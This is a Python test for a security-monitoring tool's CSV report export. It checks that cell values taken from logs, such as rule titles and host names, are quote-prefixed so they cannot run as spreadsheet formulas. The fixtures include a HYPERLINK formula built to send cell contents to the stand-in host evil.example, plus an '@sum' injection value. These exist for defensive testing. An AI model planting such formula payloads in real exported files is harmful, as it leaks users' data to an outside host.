"""CSV formula injection: text cells taken from logs (rule titles, host names) cannot start a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from soclite.config import Settings
from soclite.models import Alert, Level, Unit, fingerprint, severity_of
from soclite.reports.archive import ReportArchive
from soclite.reports.service import ReportRequest, generate
from soclite.store import open_store

EVIL_TITLE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
EVIL_HOST = "@sum(1+1)"


def test_report_csv_neutralises_formula_cells(tmp_path: Path) -> None:
    settings = Settings(environment="test", data_dir=tmp_path)
    store = open_store(settings)
    archive = ReportArchive(tmp_path)
    try:
        store.put_unit(Unit(code="so-tc", name="+Sở Tài chính"))
        seen = datetime(2024, 8, 5, 3, 0, tzinfo=UTC)
        store.put_alerts([Alert(
            fingerprint=fingerprint("r-1", EVIL_HOST, {}), rule_id="-r-1", rule_title=EVIL_TITLE, level=Level.HIGH,
            severity=severity_of(Level.HIGH), host=EVIL_HOST, unit="so-tc", first_seen=seen, last_seen=seen,
            event_ids=["e1"], event={}, tags=[],
        )])
        _report, _ctx, out = generate(store, settings, archive, ReportRequest(period="2024-08", formats=("csv",)))
    finally:
        archive.close()
        store.close()
    cells = [cell for row in csv.reader(io.StringIO(out["csv"].decode("utf-8-sig"))) for cell in row]
    assert "'" + EVIL_TITLE in cells and "'" + EVIL_HOST in cells and "'-r-1" in cells
    assert "'+Sở Tài chính" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
